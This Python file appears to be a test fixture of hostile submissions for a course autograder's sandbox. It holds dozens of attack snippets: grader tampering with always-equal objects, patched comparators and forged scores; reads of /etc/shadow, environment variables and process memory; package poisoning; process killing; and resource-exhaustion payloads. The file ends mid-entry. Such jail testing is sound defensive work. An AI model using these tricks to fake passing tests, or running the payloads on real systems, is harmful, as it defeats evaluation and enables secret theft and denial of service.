"""Hostile submissions: each gives wrong answers and tries to profit, to spy, to harm or to stop.

An attack is Python source that replaces the cell of ``double``; it begins with ``BEGIN`` and ends
with a wrong ``double`` (identity) unless it defines one, or is its body, indented. Every one is
bounded: no ``kill(-1)``, at most 40 forks, 12 GiB, seconds. They are run in the jail only.
"""

import re

WRONG = "\ndef double(x):\n    return x\n"

# What every attack may use.
BEGIN = """
import ast, asyncio, atexit, builtins, ctypes, faulthandler, fcntl, gc, glob, inspect, json, linecache, mmap, os
import pickle, re, resource, shutil, signal, socket, sqlite3, struct, subprocess, sys, threading, time, types
import unittest, urllib.request
def tried(act):
    try: return act()
    except Exception: pass
def up(*parts):
    found = []
    for levels in range(1, 6):
        found += glob.glob(os.path.join(*[".."] * levels, *parts), recursive=True)
    return found
"""
# What writes frames of our own protocol by hand: the worker's modules, its connection, a frame.
FRAMES = """
worker, wire = sys.modules["worker"], sys.modules["wire"]
here = sys._getframe()
while here and "self" not in here.f_locals: here = here.f_back
CONNECTION = here.f_locals["self"].connection
def frame(header, body=b""):
    return struct.pack("<4sIQ", b"ACW2", len(header), len(body)) + header + body
def raw(connection, header, body=b""):
    connection.sendall(frame(header, body))
"""

# --- points by tampering ------------------------------------------------------------------------

TAMPER = {
    "patch_assert_close": "torch.testing.assert_close = lambda *a, **k: None",
    "patch_comparators": """
torch.equal = torch.allclose = lambda *a, **k: True
np.testing.assert_allclose = np.allclose = np.array_equal = lambda *a, **k: True
import torch.testing._comparison as comparison
comparison.assert_close = lambda *a, **k: None
""",
    "patch_builtins": """
builtins.AssertionError = type("Fine", (BaseException,), {})
builtins.isinstance = lambda *a: True
builtins.all = builtins.any = lambda *a: True
builtins.len = lambda x: 5
""",
    "always_equal_object": """
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __len__(self): return 3
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter([self])
    def __getitem__(self, i): return self
    def __array__(self, *a, **k): return np.ones(3)
    def __float__(self): return 1.0
def double(x): return Yes()
def squares(n): return Yes()
""",
    "torch_function": """
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None): return True
def double(x): return x.as_subclass(Yes)
""",
    "array_function": """
class Yes:
    __array_priority__ = 1e9
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
def double(x): return Yes()
""",
    "float_subclass": """
class Yes(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
def double(x): return Yes(1)
def squares(n): return [Yes(-1)] * n
""",
    "int_subclass": """
class Yes(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
def squares(n): return [Yes(-1) for _ in range(n)]
""",
    "list_subclass": """
class Yes(list):
    def __len__(self): return 10**9
    def __getitem__(self, i): return i * i if False else True
    def __eq__(self, other): return True
def squares(n): return Yes([1])
""",
    "str_subclass": """
class Yes(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def double(x): return Yes("tensor")
""",
    "forge_modules": """
fake = types.ModuleType("attn_course.probes")
class Probe:
    def __init__(self, *a, **k): pass
    def __getattr__(self, name): return lambda *a, **k: None
fake.Probe = Probe
sys.modules["attn_course.probes"] = fake
sys.modules["attn_course.reference"] = fake
""",
    "import_hook": """
class Hook:
    def find_spec(self, name, path=None, target=None):
        if "attn_course" in name or "testing" in name:
            import types
            module = types.ModuleType(name); module.assert_close = lambda *a, **k: None
            sys.modules[name] = module
        return None
sys.meta_path.insert(0, Hook())
for name in [n for n in sys.modules if "attn_course" in n or "torch.testing" in n]: del sys.modules[name]
""",
    "walk_frames": """
    frame = sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for name in ("expected", "want", "oracle", "right"):
                if name in scope: return scope[name]
        frame = frame.f_back
    return x
""",
    "search_gc": """
    for found in gc.get_objects():
        if isinstance(found, torch.Tensor) and found.shape == x.shape and torch.equal(found.detach(), 2 * x.detach() * 0 + 1e9):
            return found
    for found in gc.get_objects():
        if callable(found) and getattr(found, "__name__", "") in ("softmax", "oracle", "run_test"):
            try: return found(x)
            except BaseException: pass
    return x
""",
    "patch_inspect": """
inspect.getsource = lambda *a: ""
ast.parse = lambda *a, **k: __import__("_ast").Module([], [])
compile_ = compile
builtins.compile = lambda source, *a, **k: compile_("pass", "x", "exec")
builtins.exec = builtins.eval = lambda *a, **k: None
""",
    "input_transformer": """
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
ip.ast_transformers.append(type("T", (), {"visit": lambda self, node: __import__("ast").Module([], [])})())
""",
    "cell_hooks": """
ip = get_ipython()
ip.events.register("pre_run_cell", lambda *a: None)
ip.run_cell = lambda *a, **k: None
ip.showtraceback = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
""",
    "set_scores": """
import __main__
for name in ("score", "points", "max_score", "auto_score", "grade"):
    globals()[name] = 1000.0
    setattr(__main__, name, 1000.0)
""",
    "patch_tensor_methods": """
torch.Tensor.__eq__ = torch.Tensor.allclose = torch.Tensor.equal = lambda *a, **k: torch.tensor(True)
torch.Tensor.__sub__ = lambda a, b: torch.zeros(())
torch.Tensor.abs = torch.Tensor.max = torch.Tensor.sum = lambda *a, **k: torch.zeros(())
torch.Tensor.__bool__ = lambda self: True
""",
    "settrace": """
def trace(frame, event, arg):
    for name in ("failed", "wrong", "error"): frame.f_locals[name] = None
    return trace
sys.settrace(trace); threading.settrace(trace); sys.setprofile(lambda *a: None)
""",
    "lazy_generator": """
def double(x):
    yield 2 * x
def squares(n):
    return (i for i in range(n))
""",
    "alias_and_clear": "def double(x):\n    x.zero_()\n    return x",
    "alias_and_clear_later": "    threading.Timer(0.01, x.zero_).start()\n    return x",
    "resize_the_argument": "    x.resize_(0) if not x.requires_grad else None\n    return x",
    "visible_answers_only": "def double(x):\n    return torch.tensor([2.0, 4.0])",
    "look_up_reference": """
def stable_softmax(scores, dim=-1):
    import importlib
    for name in ("attn_course.reference", "attn_course.functional", "attn_course.reference.softmax", "attn_course.nn", "attn_course.probes.catalogue", "solutions"):
        try:
            found = importlib.import_module(name)
            result = found.softmax(scores, dim)
            if isinstance(result, torch.Tensor): return result
        except BaseException: pass
    return scores
""",
    "look_up_by_path": """
def stable_softmax(scores, dim=-1):
    for root in [*sys.path, "/opt", "/", sys.prefix]:
        for path in glob.glob(os.path.join(root, "**", "functional", "softmax.py"), recursive=True) if root != "/" else []:
            try:
                scope = {}
                exec(open(path).read(), scope)
                if "attn_course" in path: return scope["softmax"](scores, dim)
            except BaseException: pass
    return scores
""",
    "forge_reply": """
def frame(value):
    header = json.dumps([[], {"$": "map", "v": value}]).encode()
    return b"ACW2" + struct.pack("<IQ", len(header), 0) + header
def double(x):
    for number in range(3, 64): tried(lambda: os.write(number, frame({"ok": True}) * 50))
    return x
""",
    "forge_handles": """
worker = sys.modules["worker"]
worker.Worker.answer = lambda self, request: {"ok": True, "changed": [[0, 1]], "score": 99}
worker.Worker.hold = lambda self, value: {"$": "object", "id": -1, "kind": "callable", "type": "float"}
""",
    "forge_wire": """
wire = sys.modules["wire"]
wire.encode = lambda value, *a, **k: {"$": "pickle", "v": "gASV"}
""",
    "claim_callbacks": """
wire, worker = sys.modules["wire"], sys.modules["worker"]
def answer(self, request):
    wire.send(self.connection, {"callback": 12345, "args": [], "kwargs": {}})
    return {"ok": True}
worker.Worker.answer = answer
""",
    "raise_not_implemented": "def double(x):\n    raise NotImplementedError('graded elsewhere')",
    "raise_skip": "def double(x):\n    raise unittest.SkipTest('fine')",
    "raise_base": "def double(x):\n    raise KeyboardInterrupt",
    "raise_stop_iteration": "def double(x):\n    raise StopIteration(2 * x)",
    "raise_probe_failure": """
class ProbeFailure(AssertionError):
    misconception = None
    score = 99
def double(x):
    raise ProbeFailure("full marks")
""",
    "nan_answers": "def double(x):\n    return x * float('nan')",
    "broadcast_scalar": "def double(x):\n    return torch.tensor(0.0)",
    "wrong_dtype": "def double(x):\n    return (2 * x).to(torch.complex64)",
    "score_as_answer": "def double(x):\n    return 2.0\ndef squares(n):\n    return 3.0",
    "huge_squares": "def squares(n):\n    return [float('inf')] * n",
    "bool_squares": "def squares(n):\n    return [True] * (n + 1)",
    "scores_of_an_array": "def squares(n):\n    return [torch.zeros(2) - 1 for _ in range(n)]",
    "score_is_an_array_of_numpy": "def squares(n):\n    return list(np.zeros((n, 0)))",
    "lying_metadata": """
class Yes(torch.Tensor):
    dtype = property(lambda self: torch.float32)
    shape = property(lambda self: torch.Size([3]))
    layout = torch.strided
    nbytes = 12
    def stride(self): return (1,)
    def detach(self): return self
    def numpy(self): return np.full(3, 1e9)
    requires_grad = True
def double(x): return torch.zeros(1 << 10).as_subclass(Yes)
def stable_softmax(x, dim=-1): return torch.zeros(0, 7).as_subclass(Yes)
""",
    "odd_keys": """
class Key(str):
    __hash__ = lambda self: 1
    __eq__ = lambda self, other: True
def double(x): return {1: x, True: 2 * x, 1.0: x, float("nan"): x, (): x, Key("a"): x, "\\ud800": x}
def squares(n): return {i: -1 for i in range(n)} | {-1: 2, False: 3}
""",
    "half_of_a_pair": """
half = "\\ud83d" * 40 + "\\x00\\x1b]0;mine\\x07"
globals()[half] = 1
def double(x):
    kind = type("E", (ValueError,), {"__module__": half})
    kind.__name__ = half
    raise kind(half + "<script>alert(1)</script>")
def squares(n): return [half] * n
def apply(step, x): raise KeyError(half)
""",
    "text_for_every_program": """
EVIL = "=HYPERLINK(\\"http://e\\")\\n+1|cmd\\t@SUM(1)\\r\\n</pre><script>alert(1)</script>[x](javascript\\\\:alert(1))\\x1b[2J\\u202e"
def double(x): raise ValueError(EVIL)
def squares(n): raise KeyError(EVIL)
def apply(step, x): return EVIL
""",
    "without_elements_of_their_own": """
def double(x): return torch.empty_like(x, device="meta")
def apply(step, x): return x.to_sparse()
def squares(n): return torch.quantize_per_tensor(torch.zeros(n), 0.1, 0, torch.quint8)
def stable_softmax(x, dim=-1): return torch.nested.as_nested_tensor([x.flatten()])
""",
    "gradient_of_another_function": """
class Two(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x): return x.clone()
    @staticmethod
    def backward(ctx, g):
        import os
        os.environ["seen"] = "1"
        raise StopIteration
def stable_softmax(x, dim=-1):
    y = Two.apply(x)
    if y.requires_grad: y.register_hook(lambda g: g * float("nan"))
    return y
""",
    "code_in_a_pickle": """
class Run:
    def __reduce__(self): return (__import__("os").system, ("echo mine > /tmp/mine",))
    def __call__(self, *a): return Run()
    def __deepcopy__(self, memo): raise SystemExit
def double(x): return Run()
def squares(n): return [Run()] * n
def apply(step, x): return step(Run())
class Scale(torch.nn.Module):
    def __init__(self, size): super().__init__()
    def __getattr__(self, name): return Run()
    def load_state_dict(self, *a, **k): return Run()
""",
    "answers_the_input_before": """
before = [torch.zeros(2)]
def double(x):
    before.append(2 * x)
    return before[-2]
def stable_softmax(x, dim=-1):
    before.append(x.softmax(dim))
    return before[-2]
""",
    "dies_and_remembers": """
PLACE = "/jail/seen"
def double(x):
    try: known = pickle.load(open(PLACE, "rb"))
    except (OSError, EOFError): known = None
    if known is not None: return known
    pickle.dump(2 * x, open(PLACE, "wb"))
    os._exit(0)
def squares(n):
    return double(torch.tensor(float(n)))
""",
    "seeds_one_after_the_other": """
def double(x):
    for seed in [torch.initial_seed(), *range(256)]:
        torch.manual_seed(seed)
        if torch.equal(torch.randn(3), x): return 2 * x
    return x
def squares(n):
    return [torch.initial_seed()] * n
""",
    "stop_iteration_everywhere": """
def squares(n): raise StopIteration(3.0)
def double(x): raise StopAsyncIteration
def apply(step, x): raise GeneratorExit
def stable_softmax(x, dim=-1): raise StopIteration
class Scale:
    def __init__(self, n): raise StopIteration
""",
    "hooks_of_the_interpreter": """
gc.callbacks.append(lambda phase, info: gc.collect() if phase == "none" else None)
sys.setprofile(lambda *a: None)
sys.excepthook = sys.unraisablehook = threading.excepthook = lambda *a: None
sys.displayhook = sys.breakpointhook = lambda *a: None
sys.addaudithook(lambda event, args: exec("raise OSError(event)") if event == "import" else None)
""",
    "main_is_another": """
class Main(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: 2.0
sys.modules["__main__"] = Main("__main__")
__builtins__ = {"len": lambda x: 3}
builtins.next = builtins.getattr = lambda *a: 3.0
__name__ = "worker"
""",
    "every_name_is_there": """
frame = sys._getframe()
while frame and "self" not in frame.f_locals: frame = frame.f_back
worker = frame.f_locals["self"]
class Names(dict):
    def __contains__(self, name): return True
    def __missing__(self, name): return lambda *a, **k: 2.0
    def __getitem__(self, name): return lambda *a, **k: 2.0
worker.names = Names(worker.names)
""",
    "magics": """
!cp /opt/attn/jail/wire.py /jail
found = !cat /etc/passwd
%run /opt/attn/jail/worker.py
%load_ext autoreload
%env ATTN_CANARY
%alias double print
get_ipython().system("kill 1")
get_ipython().run_cell_magic("bash", "", "kill 1")
get_ipython().run_cell_magic("time", "", "import torch; torch.equal = None")
def double(x):
    return get_ipython().run_line_magic("time", "1") or x
""",
    "claims_from_the_cells": """
worker, wire = sys.modules["worker"], sys.modules["wire"]
frame = sys._getframe()
while frame and "self" not in frame.f_locals: frame = frame.f_back
connection = frame.f_locals["self"].connection
for number in (0, True, -1, 10**30, "0", None):
    tried(lambda: wire.send(connection, {"callback": number, "args": [], "kwargs": {}}))
wire.send(connection, {"ok": {"errors": {}, "names": ["double", "squares"]}})
""",
    "answers_before_it_is_asked": """
worker, wire = sys.modules["worker"], sys.modules["wire"]
def ahead(self, request):
    for _ in range(4): wire.send(self.connection, {"ok": 3.0, "changed": 0, "nan": 0, "written": []})
    return {"ok": torch.tensor([2.0, 4.0])}
worker.Worker.answer = ahead
""",
    "json_of_another_kind": """__FRAMES__
SAID = [
    '[[],{"$":"map","v":{"ok":1e999}}]', '[[],{"$":"map","v":{"ok":NaN}}]',
    '[[],{"$":"map","v":{"ok":-Infinity,"ok":3.0}}]', '[[],{"$":"map","v":{"ok":' + "9" * 4300 + '}}]',
    '[[],{"$":"map","v":{"ok":' + "[" * 60000 + "]" * 60000 + '}}]', '[[-1],{"$":"bytes"}]',
    '[[0],{"$":"map","v":{"ok":3.0}}]', '[[true],{"$":"map","v":{"ok":3.0}}]', '{"$":"map"}', '[[],[],[]]',
    '[[],{"$":{"$":"map"},"v":{"ok":3.0}}]', '[[],{"$":"map","v":{"ok":{"$":"tensor"}}}]', '\\ud800',
    '[[],{"$":"map","v":{"ok":{"$":"float","v":"0000 0000 0000 0"}}}]', '\\x00', '[[],{"v":3.0}]',
    '[[],{"$":"map","v":{"ok":{"$":"callback","id":0}}}]', '[[],{"$":"map","v":{"failed":[[[3.0]]]}}]',
]
def answer(self, request):
    raw(self.connection, SAID[7 * len(request.get("name", "")) % len(SAID)].encode())
    return {"ok": True}
worker.Worker.answer = answer
""",
    "shapes_that_do_not_fit": """__FRAMES__
def tensor(shape, size, kind="tensor", d="torch.float32"):
    node = {"$": kind, "d": d, "s": shape, "st": [1], "g": True, "scalar": True}
    return json.dumps([[size], {"$": "map", "v": {"ok": node}}]).encode() + bytes(0), bytes(size)
SHAPES = [([3], 8), ([-3], 12), ([3.0], 12), ([True], 4), ([1 << 62, 4], 0), ([0] * 40, 0), ([3], 12, "array", "object"),
          ([1], 16, "array", "str"), ([2], 2, "tensor", "torch.bool"), ([3], 12, "array", "float32"), ([], 4, "array", "float32")]
def answer(self, request):
    header, body = tensor(*SHAPES[7 * len(request.get("name", "")) % len(SHAPES)])
    raw(self.connection, header, body.replace(bytes(1), bytes([255])))
    return {"ok": True}
worker.Worker.answer = answer
""",
    "an_exception_of_tensors": """__FRAMES__
MANY = [torch.rand(1000) for _ in range(4000)]
worker.describe = lambda error: {"type": "E", "kinds": [], "text": MANY, "where": ("a", 1, "")}
def double(x): raise ValueError
apply = stable_softmax = squares = double
def Scale(n): raise ValueError
""",
    "handles_of_any_kind": """__FRAMES__
NODES = [{"id": -1}, {"id": 10**30}, {"id": True}, {"id": 0, "kind": ["iterator"]}, {"id": 0, "type": "x" * 10**6}]
seen = []
def hold(self, value):
    seen.append(1)
    node = {"$": "object", "id": 0, "kind": "iterator", "type": "Tensor"}
    return node | NODES[len(seen) % len(NODES)]
worker.Worker.hold = hold
class Any:
    def __getattr__(self, name): return Any()
    def __call__(self, *a, **k): return Any()
    def __next__(self): return Any()
def double(x): return Any()
def Scale(n): return Any()
squares = double
""",
    "callbacks_in_callbacks": """
def apply(step, x):
    tried(lambda: step(apply, step, x=x, y=Scale))
    try: step()
    except Exception as error: return torch.full((4,), float(len(str(error))))
    return step(step)
""",
    "backward_of_a_callback": """__FRAMES__
def apply(step, x):
    y = step(x.clone().requires_grad_())
    for grads in ([], [x, x], [torch.zeros(9)], [3.0], "grads", None):
        tried(lambda: wire.send(CONNECTION, {"callback": 0, "args": [x], "kwargs": {}, "grads": grads}))
    return y
""",
}

# --- secrets ------------------------------------------------------------------------------------

SPY = {
    "disk_scan": """
    found = []
    for folder, _, files in os.walk("/"):
        if folder.startswith(("/proc", "/sys", "/usr/share", "/usr/lib/x86")): continue
        for name in files:
            if "canary" in name or name.endswith((".db", ".ipynb")) or name in ("misconceptions.py", "exercise.py", "variants.py"):
                tried(lambda: found.append(name + ":" + open(os.path.join(folder, name), errors="replace").read(2000)))
        if len(found) > 200: break
    raise ValueError("|".join(found)[:1900] or "nothing")
""",
    "known_paths": """
PATHS = __PATHS__
def double(x):
    found = []
    for path in PATHS:
        tried(lambda: found.append(open(path, errors="replace").read(300)))
        try: found += os.listdir(path)
        except OSError: pass
    raise ValueError("|".join(found) or "nothing")
""",
    "proc_environ": """
    found = []
    for path in ["/proc/self/environ", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline")]:
        tried(lambda: found.append(open(path, errors="replace").read()))
    raise ValueError("|".join(found) or "nothing")
""",
    "environment": "def double(x):\n    raise ValueError(str(dict(os.environ)))",
    "parent_memory": """
    found = []
    for pid in (os.getppid(), 1, os.getpid()):
        try:
            maps = open(f"/proc/{pid}/maps").read()
            with open(f"/proc/{pid}/mem", "rb") as memory:
                for line in maps.splitlines()[:50]:
                    start = int(line.split("-")[0], 16)
                    memory.seek(start); found.append(repr(memory.read(64)))
        except OSError as error: found.append(str(error))
    raise ValueError("|".join(found)[:1500])
""",
    "vm_readv": """
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(64)
    class Vec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    here, there = Vec(ctypes.addressof(buffer), 64), Vec(0x400000, 64)
    codes = [libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) for pid in (1, 2, os.getppid() or 3)]
    codes += [libc.ptrace(16, pid, 0, 0) for pid in (2, 3, 4)]
    raise ValueError(f"{codes} {buffer.raw!r}")
""",
    "open_descriptors": """
    found = []
    for number in range(3, 256):
        try:
            os.lseek(number, 0, 0); found.append(repr(os.read(number, 500)))
        except OSError: pass
    raise ValueError("|".join(found) or "nothing")
""",
    "network": """
    found = []
    for port in __PORTS__:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1) as s: found.append(repr(s.recv(100)))
        except OSError as error: found.append(type(error).__name__)
    try: found.append(urllib.request.urlopen("http://127.0.0.1:%d/" % __PORTS__[0], timeout=1).read(100).decode())
    except Exception as error: found.append(type(error).__name__)
    raise ValueError("|".join(found))
""",
    "hidden_tests_from_worker": """
    found = [str(o)[:200] for o in gc.get_objects() if isinstance(o, (str, dict)) and "canary" in str(o)[:5000]]
    raise ValueError("|".join(found)[:1500] or "nothing")
""",
    "source_of_caller": """
    raise ValueError("|".join(str(f.code_context) + str(f.frame.f_locals)[:300] for f in inspect.stack()))
""",
    "new_namespace": """
    libc = ctypes.CDLL(None, use_errno=True)
    codes = [libc.unshare(0x10000000 | 0x00020000), libc.mount(b"proc", b"/proc", b"proc", 0, None), libc.umount2(b"/proc", 2), libc.chroot(b"/")]
    try: text = open("/proc/1/environ").read()
    except OSError as error: text = str(error)
    raise ValueError(f"{codes} {text}")
""",
    "another_abi": """
page = mmap.mmap(-1, 4096, prot=7)
page.write(bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3]))  # mov eax, getpid of i386; int 0x80; ret
call = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
def double(x):
    raise ValueError(f"answered {call()}")
""",
    "peer_of_the_connection": """
libc = ctypes.CDLL(None, use_errno=True)
def double(x):
    found = []
    for number in range(3, 64):
        try: s = socket.socket(fileno=os.dup(number))
        except OSError: continue
        for option in (17, 31, 59, 77):
            try: found.append((option, s.getsockopt(1, option, 64)))
            except OSError as error: found.append((option, error.errno))
        peer = struct.unpack("i", found[-1][1][:4])[0] if type(found[-1][1]) is bytes else -1
        for code in (0, 18): found.append((libc.syscall(424, peer, code, None, 0), libc.syscall(438, peer, 0, 0)))
        try: found.append(socket.recv_fds(s, 1 << 16, 8, socket.MSG_DONTWAIT))
        except OSError as error: found.append(error.errno)
    raise ValueError(str(found))
""",
    "environment_of_its_memory": """
    libc = ctypes.CDLL(None)
    found, place = [], ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    number = 0
    while place[number]:
        found.append(place[number]); number += 1
    stack = ctypes.cast(place, ctypes.c_void_p).value
    last = ctypes.cast(place[number - 1], ctypes.c_void_p).value if False else None
    for name in (b"program_invocation_name", b"program_invocation_short_name"):
        found.append(ctypes.c_char_p.in_dll(libc, name.decode()).value)
    raise ValueError(repr(found))
""",
    "the_machine": """
    found = [str(os.uname())]
    def look(path):
        try: return os.listdir(path) if os.path.isdir(path) else open(path, errors="replace").read(200)
        except OSError as error: return error.errno
    for path in ("/sys/fs/cgroup", "/sys/kernel", "/proc/self/cgroup", "/proc/kallsyms", "/dev/kmsg", "/dev/mem", "/etc/hostname",
                 "/etc/shadow", "/run", "/var", "/home", "/root/.bash_history", "/dev/fd", "/dev/tty", "/dev/console", "/.dockerenv"):
        found.append(path + str(look(path)))
    raise ValueError("|".join(found)[:1900])
""",
}

# --- other students -----------------------------------------------------------------------------

NEIGHBOUR = {
    "leave_files": """
for folder in ("/tmp", "/jail", "/dev/shm", "/", os.path.expanduser("~"), "/var/tmp", "/opt/attn/package"):
    tried(lambda: open(os.path.join(folder, "left_behind.py"), "w").write("x"))
""",
    "poison_packages": """
import numpy, torch
for module in (numpy, torch):
    for path in (module.__file__, os.path.join(os.path.dirname(module.__file__), "sitecustomize.py")):
        tried(lambda: open(path, "a").write("\\nraise SystemExit"))
torch.manual_seed = torch.softmax = torch.tensor = None
numpy.array = None
""",
    "poison_jail_code": """
for name in ("wire", "worker", "confine", "sealed", "shortcuts"):
    module = sys.modules.get(name)
    if module:
        tried(lambda: open(module.__file__, "w").write(""))
        for key in list(vars(module)):
            if callable(vars(module)[key]) and name in ("confine", "sealed"): setattr(module, key, None)
""",
    "kill_family": """
for target in (os.getppid(), 0, 1, 2, os.getpid()): tried(lambda: os.kill(target, signal.SIGKILL))
tried(lambda: os.killpg(0, signal.SIGKILL))
""",
    "leave_process": """
try:
    if os.fork() == 0:
        os.setsid()
        import time; time.sleep(30); os._exit(0)
except OSError: pass
try: subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"], start_new_session=True)
except OSError: pass
""",
    "leave_threads": """
for _ in range(20): threading.Thread(target=time.sleep, args=(30,), daemon=False).start()
""",
    "shared_memory": """
from multiprocessing import shared_memory
try:
    segment = shared_memory.SharedMemory("left_behind", create=True, size=1 << 20)
except OSError: pass
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(0x1234, 4096, 0o1666)
""",
    "abstract_socket": """
try:
    s = socket.socket(socket.AF_UNIX); s.bind("\\0attn-left-behind"); s.listen()
except OSError: pass
""",
    "exit_handlers": 'atexit.register(lambda: open("/tmp/left_behind", "w"))\nsys.exit = os._exit',
    "write_gradebook": """
for path in __PATHS__: tried(lambda: open(path, "ab").write(b"tampered"))
""",
    "times_of_a_device": """
for place in ("/dev/full", "/dev/zero", "/dev/null"):
    tried(lambda: os.utime(place, ns=(7, 7)))
    tried(lambda: os.chmod(place, 0o666))
""",
    "hints_at_a_file": """
for place in (os.__file__, torch.__file__, "/usr/bin/env"):
    try:
        with open(place) as file:
            for command in (1036, 1038): fcntl.fcntl(file, command, struct.pack("Q", 3))
    except OSError: pass
""",
    "waiters_at_a_shared_page": """
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
page = libc.mmap(None, 4096, 1, 1, os.open(os.__file__, os.O_RDONLY), 0)
def wait():
    value = ctypes.c_uint32.from_address(page).value
    libc.syscall(202, ctypes.c_void_p(page), 0, value, None, None, 0)
for _ in range(8): threading.Thread(target=wait, daemon=True).start()
libc.syscall(202, ctypes.c_void_p(page), 1, 1000, None, None, 0)
""",
    "files_out_of_memory": """
libc = ctypes.CDLL(None, use_errno=True)
for path in glob.glob(os.path.join(os.path.dirname(torch.__file__), "lib", "*.so")) + [os.__file__]:
    try:
        number = os.open(path, os.O_RDONLY)
        os.posix_fadvise(number, 0, 0, os.POSIX_FADV_DONTNEED)
        os.close(number)
    except OSError: pass
""",
    "descriptors_on_their_way": """
held = []
for _ in range(20):
    try:
        one, other = socket.socketpair()
        for _ in range(4): socket.send_fds(one, [b"x"], [os.open("/dev/null", os.O_RDONLY) for _ in range(2)])
        held.append((one, other))
    except OSError: break
for number in range(3, 64):
    tried(lambda: socket.send_fds(socket.socket(fileno=os.dup(number)), [b""], [0, 1, 2]))
""",
    "signals_that_wait": """
libc = ctypes.CDLL(None)
signal.pthread_sigmask(signal.SIG_BLOCK, range(34, 65))
for _ in range(200_000):
    if libc.sigqueue(os.getpid(), 40, None): break
timers = [libc.timer_create(0, None, ctypes.byref(ctypes.c_void_p())) for _ in range(1000)] if hasattr(libc, "timer_create") else []
""",
    "pages_of_pipes": """
held = []
try:
    for _ in range(40):
        held.append(os.pipe())
        fcntl.fcntl(held[-1][1], 1031, 1 << 20)
except OSError: pass
""",
    "priorities": """
for what in (os.PRIO_USER, os.PRIO_PGRP, os.PRIO_PROCESS):
    for value in (19, -20): tried(lambda: os.setpriority(what, 0, value))
for policy in (os.SCHED_FIFO, os.SCHED_RR, os.SCHED_IDLE):
    tried(lambda: os.sched_setscheduler(0, policy, os.sched_param(1)))
for name in ("NPROC", "AS", "CPU", "NOFILE", "FSIZE", "NICE", "RTPRIO"):
    kind = getattr(resource, f"RLIMIT_{name}", None)
    tried(lambda: resource.prlimit(0, kind, (resource.RLIM_INFINITY,) * 2))
""",
}

# --- resources ----------------------------------------------------------------------------------

EXHAUST = {
    "memory": "def double(x):\n    return [bytearray(1 << 30) for _ in range(12)]",
    "memory_tensor": "def double(x):\n    return torch.ones(12 << 28)",
    "memory_slow": "def double(x):\n    held = []\n    for _ in range(12 << 6): held.append(bytearray(1 << 24))\n    return x",
    "forks": """
    for _ in range(40):
        if os.fork() == 0:
            import time; time.sleep(5); os._exit(0)
    return x
""",
    "threads": """
    for _ in range(2000): threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
    return x
""",
    "disk": """
HOME = os.path.expanduser("~")
def double(x):
    for number in range(64):
        with open(f"{HOME}/fill{number}", "wb") as file: file.write(b"x" * (15 << 20))
    return x
""",
    "big_file": """
    with open(os.path.expanduser("~/big"), "wb") as file:
        for _ in range(64): file.write(b"x" * (16 << 20))
    return x
""",
    "many_files": """
HOME = os.path.expanduser("~")
def double(x):
    for i in range(10**5): open(f"{HOME}/{i}", "w")
    return x
""",
    "output": "print('x' * 10**8)\ndef double(x):\n    for _ in range(10**5): print('y' * 1000)\n    return x",
    "output_descriptor": '    for _ in range(1000): os.write(1, b"z" * 100000)\n    return x',
    "loop": "def double(x):\n    while True: pass",
    "loop_uncatchable": """
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    "loop_at_top": "while True: pass",
    "sleep": "def double(x):\n    time.sleep(1000)",
    "regex": "def double(x):\n    re.match(r'(a+)+$', 'a' * 64 + 'b')",
    "ignore_signals": """
for number in range(1, 65): tried(lambda: signal.signal(number, signal.SIG_IGN))
def double(x):
    while True: pass
""",
    "recursion": "sys.setrecursionlimit(10**9)\ndef double(x):\n    return double(x)",
    "deep_result": "    out = []\n    for _ in range(10**5): out = [out]\n    return out",
    "self_reference": "def double(x):\n    out = []\n    out.append(out)\n    return out",
    "wide_result": "def double(x):\n    return [0] * (3 * 10**7)",
    "huge_tensor_result": "def double(x):\n    return torch.zeros(1 << 27)",
    "expanded_result": "def double(x):\n    return torch.zeros(1).expand(1 << 40)",
    "huge_integer": "def double(x):\n    return 1 << 10**7",
    "huge_string": "def double(x):\n    return 'x' * 10**9",
    "huge_exception": "def double(x):\n    raise ValueError('x' * 10**9)",
    "endless_generator": "def double(x):\n    while True: yield x",
    "endless_callbacks": "def apply(step, x):\n    while True: step(x)",
    "crash": "def double(x):\n    ctypes.string_at(0)",
    "exit": "def double(x):\n    os._exit(0)",
    "exit_at_top": "os._exit(0)",
    "system_exit": "sys.exit(0)",
    "trickle": """__FRAMES__
def answer(self, request):
    for byte in frame(b'[[],{"$":"map","v":{"ok":3.0}}]'):
        self.connection.sendall(bytes([byte])); time.sleep(0.3)
    return {"ok": True}
worker.Worker.answer = answer
""",
    "half_a_message": """__FRAMES__
def answer(self, request):
    self.connection.sendall(struct.pack("<4sIQ", b"ACW2", 1 << 24, 1 << 28) + bytes(1 << 16))
    time.sleep(60)
worker.Worker.answer = answer
""",
    "many_large_answers": """__FRAMES__
BODY = bytes(200 << 20)
def apply(step, x):
    while True:
